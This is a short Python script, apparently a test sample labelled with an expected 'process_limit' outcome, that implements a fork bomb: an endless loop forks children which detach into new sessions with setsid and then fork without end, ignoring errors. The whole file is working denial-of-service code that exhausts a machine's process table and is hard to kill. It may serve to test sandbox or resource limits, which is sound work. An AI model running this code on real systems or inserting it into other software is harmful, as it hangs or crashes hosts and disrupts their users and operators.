# Forks children that leave its session and fork on.
# status: process_limit
import os
while True:
    if os.fork() == 0:
        os.setsid()
        while True:
            try: os.fork()
            except OSError: pass
